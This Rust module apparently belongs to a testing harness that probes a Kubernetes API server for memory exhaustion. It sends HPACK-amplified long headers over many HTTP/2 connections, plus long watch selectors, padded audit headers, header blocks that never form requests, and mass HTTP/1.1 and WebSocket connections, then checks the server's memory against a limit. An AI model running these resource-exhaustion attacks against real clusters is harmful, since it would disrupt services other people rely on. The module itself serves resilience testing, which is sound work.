//! Long heads wherever a request waits or lasts. HPACK makes them cheap: a byte names four thousand of the connection's table again.

use std::{
    fs,
    net::SocketAddr,
    path::Path,
    sync::atomic::{AtomicUsize, Ordering},
    time::{Duration, Instant},
};

use anyhow::{Result, ensure};
use bytes::Bytes;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
    task::JoinHandle,
    time::{sleep, timeout},
};

use crate::{
    attack::{
        frames,
        ground::{Ground, Target, open_many},
        options::Size,
        raw::{Raw, Reads},
        report::Told,
    },
    http::{Listener, Protocol},
    subject::VIEWER,
};

/// Connections of an attacker, and requests on each.
const CONNECTIONS: Size = Size(24, 60);
/// Those of watches that an audit log is told of.
const OF_RECORDS: Size = Size(40, 60);
/// Those of watches, each of which is parsed.
const OF_WATCHES: Size = Size(12, 40);
const REQUESTS: usize = 240;
/// Bytes of what goes into the table of a connection, and how often a head has it: all of it is just below what a head may have.
const VALUE_BYTES: usize = 3_900;
const TIMES: usize = 30;
/// Connections over HTTP/1.1, half of which become WebSockets; headers of each request, and their bytes.
const HTTP1: Size = Size(300, 2_000);
const HEADERS: usize = 60;
const HEADER_BYTES: usize = 2_000;
/// Heads may take so much of the server, all together, MiB: its limit of 128, 16 KiB for each connection, and what an allocator adds.
const HEADS_MIB: u64 = 224;
/// Blocks of a connection that become no request: more than a server bears.
const DEAD: usize = 400;
/// Requests that are sent before their answers are looked at.
const AT_ONCE: usize = 60;
const ANSWER: Duration = Duration::from_secs(10);
const WATCH: &str = "/api/v1/namespaces/default/configmaps?watch=true&timeoutSeconds=3600";

/// A server that takes connections and says nothing.
pub(super) struct Hole {
    address: SocketAddr,
    taking: JoinHandle<()>,
}

impl Hole {
    pub(super) async fn open() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = listener.local_addr()?;
        let taking = tokio::spawn(async move {
            let mut taken = Vec::new();
            while let Ok((stream, _)) = listener.accept().await {
                taken.push(stream);
            }
        });
        Ok(Self { address, taking })
    }

    /// Arguments of a server that asks it about tokens.
    pub(super) fn is_asked_about_tokens(&self, dir: &Path) -> Result<Vec<String>> {
        Ok(vec![format!("--authentication-token-webhook-config-file={}", self.kubeconfig(dir)?)])
    }

    /// Arguments of a server that tells it what the administrator is answered, and waits until it has taken that.
    pub(super) fn is_told_of_requests(&self, dir: &Path) -> Result<Vec<String>> {
        let policy = dir.join("policy.json");
        let rules = json!([{"level": "RequestResponse", "users": ["admin"], "omitStages": ["RequestReceived"]}]);
        fs::write(&policy, json!({"apiVersion": "audit.k8s.io/v1", "kind": "Policy", "rules": rules}).to_string())?;
        Ok(vec![
            format!("--audit-policy-file={}", policy.display()),
            format!("--audit-webhook-config-file={}", self.kubeconfig(dir)?),
            "--audit-webhook-mode=blocking".to_owned(),
            "--unread-bytes-limit=64Mi".to_owned(),
        ])
    }

    fn kubeconfig(&self, dir: &Path) -> Result<String> {
        let path = dir.join("hole.kubeconfig");
        let cluster = json!({"server": format!("https://{}/", self.address), "insecure-skip-tls-verify": true});
        let kubeconfig = json!({"apiVersion": "v1", "kind": "Config", "current-context": "hole",
            "clusters": [{"name": "hole", "cluster": cluster}], "users": [{"name": "hole", "user": {}}],
            "contexts": [{"name": "hole", "context": {"cluster": "hole", "user": "hole"}}]});
        fs::write(&path, kubeconfig.to_string())?;
        Ok(path.display().to_string())
    }
}

impl Drop for Hole {
    fn drop(&mut self) {
        self.taking.abort();
    }
}

/// Arguments of a server that tells an audit log everything.
pub(super) fn audit(dir: &Path) -> Result<Vec<String>> {
    let policy = dir.join("policy.json");
    let all = json!({"apiVersion": "audit.k8s.io/v1", "kind": "Policy", "rules": [{"level": "RequestResponse"}]});
    fs::write(&policy, all.to_string())?;
    let log = dir.join("audit.log");
    Ok(vec![format!("--audit-policy-file={}", policy.display()), format!("--audit-log-path={}", log.display())])
}

/// The blocks of a connection's requests, the first of which fills the table.
struct Blocks {
    first: Vec<u8>,
    again: Vec<u8>,
}

impl Blocks {
    /// Requests for a path with a long header, many times.
    fn long_header(raw: &Raw, path: &str, more: &[(&str, &str)], (name, value): (&str, &str), times: usize) -> Self {
        let mut fields = raw.fields(Some(path));
        fields.extend(raw.credentials());
        fields.extend_from_slice(more);
        let mut first = frames::block(&fields);
        let mut again = first.clone();
        frames::inserted(&mut first, name, value);
        first.extend(vec![frames::NEWEST; times - 1]);
        again.extend(vec![frames::NEWEST; times]);
        Self { first, again }
    }

    /// Requests for a long path.
    fn long_path(raw: &Raw, path: &str) -> Self {
        let (mut first, credentials) = (frames::block(&raw.fields(None)), frames::block(&Vec::from_iter(raw.credentials())));
        let mut again = first.clone();
        frames::inserted(&mut first, ":path", path);
        again.push(frames::NEWEST);
        Self { first: [first, credentials.clone()].concat(), again: [again, credentials].concat() }
    }
}

/// How many bytes were sent, and what came back.
#[derive(Default)]
struct Sum {
    sent: AtomicUsize,
    ok: AtomicUsize,
    refused: AtomicUsize,
}

impl Sum {
    /// Sends the requests of a connection; those that are answered are, others wait.
    async fn send(&self, raw: &Raw, blocks: impl Iterator<Item = Vec<u8>>, answered: bool, late: Instant) -> Result<()> {
        let mut sent = 0;
        for block in blocks {
            ensure!(Instant::now() < late, "the machine is busy");
            let mut out = Vec::new();
            frames::headers(&mut out, raw.stream(), &block, true);
            self.sent.fetch_add(out.len(), Ordering::Relaxed);
            raw.send(&out).await?;
            sent += 1;
            let since = Instant::now();
            while answered && sent % AT_ONCE == 0 && raw.ok() + raw.refused() + raw.resets() < sent && since.elapsed() < ANSWER {
                sleep(Duration::from_millis(10)).await;
            }
        }
        Ok(())
    }

    fn count(&self, raw: &Raw) {
        self.ok.fetch_add(raw.ok(), Ordering::Relaxed);
        self.refused.fetch_add(raw.refused() + raw.resets(), Ordering::Relaxed);
    }
}

/// Opens connections, each of which sends its requests; then looks what the server holds while they last.
async fn attack<B: Iterator<Item = Vec<u8>>>(
    ground: &mut Ground,
    listener: &Listener,
    (connections, answered, told): (Size, bool, &mut Told),
    blocks: impl Fn(usize, &Raw) -> B,
) -> Result<()> {
    let target = ground.target.clone();
    let end = Instant::now() + target.time;
    let (sum, before, mut held) = (Sum::default(), ground.server.cost()?.rss_mib, Vec::new());
    // A busy machine sends less in the time.
    let late = end + 2 * target.time;
    for nth in 0..target.sizes.of(connections) {
        if Instant::now() >= late {
            break;
        }
        // A server may have enough of this client.
        let Ok(raw) = Raw::open(listener, nth, 65_535, Reads::Everything).await else { continue };
        let _ = sum.send(&raw, blocks(nth, &raw), answered, late).await;
        held.push(raw);
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    held.iter().for_each(|raw| sum.count(raw));
    told.note("sent_kb", sum.sent.load(Ordering::Relaxed) / 1_000);
    told.note("ok", sum.ok.load(Ordering::Relaxed));
    told.note("refused", sum.refused.load(Ordering::Relaxed));
    judge(ground, before, told)
}

fn judge(ground: &mut Ground, before: u64, told: &mut Told) -> Result<()> {
    let cost = ground.server.cost()?;
    told.note("held_mib", cost.rss_mib.saturating_sub(before));
    if cost.peak_mib > before + HEADS_MIB {
        told.blame(format!("heads take {} MiB", cost.peak_mib - before));
    }
    Ok(())
}

fn repeated(Blocks { first, again }: Blocks) -> impl Iterator<Item = Vec<u8>> {
    std::iter::once(first).chain(std::iter::repeat_n(again, REQUESTS - 1))
}

/// Over HTTP/2 with the table, and over HTTP/1.1.
pub(super) async fn waiting(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let stranger = ground.target.secure.with_token("nobody");
    let over_http1 = ground.target.sizes.of(HTTP1) / 10;
    let (mut talks, end) = (Vec::new(), Instant::now() + ground.target.time);
    for nth in 0..over_http1 {
        let Ok(Ok(mut io)) = timeout(ANSWER, stranger.reach(nth, Protocol::Http1)).await else { continue };
        let _ = io.write_all(head(&stranger, "/api/v1/configmaps", "").as_bytes()).await;
        talks.push(io);
        if Instant::now() > end {
            break;
        }
    }
    attack(ground, &stranger, (CONNECTIONS, false, told), |_, raw| {
        repeated(Blocks::long_header(raw, "/api/v1/configmaps", &[], ("x-long", &"v".repeat(VALUE_BYTES)), TIMES))
    })
    .await
}

/// The connection has asked for more than it may leave unread.
pub(super) async fn room(ground: &mut Ground, told: &mut Told) -> Result<()> {
    fill(&ground.target).await?;
    let listener = ground.target.plain.clone();
    attack(ground, &listener, (CONNECTIONS, false, told), |_, raw| {
        let long = Blocks::long_header(raw, "/version", &[], ("accept", &"v".repeat(VALUE_BYTES)), TIMES);
        let unread = frames::block(&raw.fields(Some("/api/v1/namespaces/kube-public/configmaps?resourceVersion=0")));
        std::iter::repeat_n(unread, 8).chain(repeated(long).take(REQUESTS - 8))
    })
    .await
}

/// Objects that a list of them is more than a window of.
async fn fill(target: &Target) -> Result<()> {
    for nth in 0..4 {
        let object = json!({"metadata": {"name": format!("long-{nth}")}, "data": {"k": "v".repeat(500_000)}});
        post(target, "/api/v1/namespaces/kube-public/configmaps", &object).await?;
    }
    Ok(())
}

async fn post(target: &Target, path: &str, object: &serde_json::Value) -> Result<()> {
    let body = Some(("application/json", Bytes::from(object.to_string())));
    let (status, answer) = target.plain.whole("POST", path, body, ANSWER).await?;
    ensure!(status == 201, "POST {path}: {status} {}", String::from_utf8_lossy(&answer));
    Ok(())
}

/// Half of the connections ask for the same, the others for something else with each watch.
pub(super) async fn selectors(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let roles = "/apis/rbac.authorization.k8s.io/v1/clusterrole";
    let rules = json!([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["list", "watch"]}]);
    post(&ground.target, &format!("{roles}s"), &json!({"metadata": {"name": "faults-watcher"}, "rules": rules})).await?;
    let role = json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "faults-watcher"});
    let subject = json!([{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "viewer"}]);
    let binding = json!({"metadata": {"name": "faults-watcher"}, "roleRef": role, "subjects": subject});
    post(&ground.target, &format!("{roles}bindings"), &binding).await?;
    let viewer = ground.target.secure.with_token(VIEWER);
    attack(ground, &viewer, (OF_WATCHES, true, told), |connection, raw| {
        let selector =
            |seed: usize| vec![format!("{}", char::from(b'a' + (seed % 26) as u8)); (VALUE_BYTES - WATCH.len() - 40) / 2].join(",");
        let equal = format!("{WATCH}&labelSelector={}", selector(0));
        let different = move |nth: usize| format!("{WATCH}&labelSelector=k{connection}.{nth},{}", selector(nth));
        let own: Vec<Vec<u8>> = match connection % 2 {
            0 => repeated(Blocks::long_path(raw, &equal)).collect(),
            _ => (0..REQUESTS).map(|nth| Blocks::long_path(raw, &different(nth)).first).collect(),
        };
        own.into_iter()
    })
    .await
}

/// What the audit log is told when a watch ends is kept until then.
pub(super) async fn audited(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let listener = ground.target.plain.clone();
    let addresses = vec!["::1"; VALUE_BYTES / 4].join(",");
    attack(ground, &listener, (OF_RECORDS, true, told), |_, raw| {
        repeated(Blocks::long_header(raw, WATCH, &[], ("x-forwarded-for", &addresses), 1))
    })
    .await
}

/// Without a path, each with a header that the table repeats. Whoever sends many is thrown out, and comes back.
pub(super) async fn dead(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let (stranger, before, end) = (ground.target.strange(), ground.server.cost()?.rss_mib, Instant::now() + ground.target.time);
    let (mut sent, mut connections, mut kept) = (0, 0, 0);
    while Instant::now() < end {
        let raw = Raw::open(&stranger, connections, 65_535, Reads::Everything).await?;
        connections += 1;
        let mut again = frames::block(&raw.fields(None));
        let mut first = again.clone();
        frames::inserted(&mut first, "x-long", &"v".repeat(VALUE_BYTES));
        again.extend(vec![frames::NEWEST; TIMES]);
        for block in repeated(Blocks { first, again: again.clone() }).chain(std::iter::repeat_n(again, DEAD - REQUESTS)) {
            let mut out = Vec::new();
            frames::headers(&mut out, raw.stream(), &block, true);
            sent += out.len();
            if raw.send(&out).await.is_err() {
                break;
            }
        }
        let since = Instant::now();
        while !raw.seen().is_gone() && since.elapsed() < ANSWER {
            sleep(Duration::from_millis(10)).await;
        }
        kept += usize::from(!raw.seen().is_gone());
    }
    told.note("sent_kb", sent / 1_000);
    told.note("connections", connections);
    if kept > 0 {
        told.blame(format!("{kept} of {connections} connections are kept after {DEAD} blocks that became no request"));
    }
    judge(ground, before, told)
}

/// A request over HTTP/1.1 with many long headers.
fn head(listener: &Listener, path: &str, more: &str) -> String {
    let host = listener.authority();
    let token = listener.token().map(|token| format!("Authorization: Bearer {token}\r\n")).unwrap_or_default();
    let long: String = (0..HEADERS).map(|nth| format!("X-Long-{nth}: {}\r\n", "v".repeat(HEADER_BYTES))).collect();
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{token}{more}{long}\r\n")
}

pub(super) async fn http1(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let target = ground.target.clone();
    let (count, before, end) = (target.sizes.of(HTTP1), ground.server.cost()?.rss_mib, Instant::now() + target.time);
    let (held, unopened) = open_many(count, end, |nth| {
        let listener = target.plain.clone();
        async move {
            let mut io = listener.reach(nth, Protocol::Http1).await?;
            let upgrade = format!(
                "Origin: http://{}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
                listener.authority()
            );
            io.write_all(head(&listener, WATCH, if nth % 2 == 0 { "" } else { &upgrade }).as_bytes()).await?;
            let mut answer = [0; 12];
            timeout(ANSWER, io.read_exact(&mut answer)).await??;
            ensure!(answer.ends_with(b" 200") || answer.ends_with(b" 101"), "{}", String::from_utf8_lossy(&answer));
            Ok(io)
        }
    })
    .await;
    sleep(end.saturating_duration_since(Instant::now())).await;
    told.note("sent_kb", held.len() * HEADERS * (HEADER_BYTES + 14) / 1_000);
    told.note("ok", held.len());
    told.note("refused", unopened);
    judge(ground, before, told)
}
